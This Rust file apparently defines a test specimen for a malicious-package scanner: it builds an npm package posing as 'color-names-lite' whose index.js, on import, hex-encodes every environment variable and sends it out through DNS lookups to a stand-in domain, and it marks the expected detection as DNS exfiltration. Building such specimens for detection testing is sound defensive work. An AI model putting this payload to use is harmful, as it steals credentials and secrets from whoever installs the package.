//! An npm package that, when it is imported, sends its environment as hexadecimal labels of names it looks up.
//!
//! Must be found: the import phase leaks by DNS.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const INDEX: &str = r#"const dns = require('dns');
Object.entries(process.env).forEach(([name, value], number) => {
  const hex = Buffer.from(`${name}=${value}`).toString('hex').slice(0, 180);
  const labels = hex.match(/.{1,60}/g) || [];
  dns.lookup(`${labels.join('.')}.${number}.ns.example`, () => {});
});
module.exports = { red: '#f00' };
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("color-names-lite", "3.0.2")
        .field("main", "index.js".into())
        .file("index.js", INDEX);
    Specimen {
        name: "npm-import-environment-by-dns",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["dns-exfiltration", "canary-exfiltrated"]),
    }
}
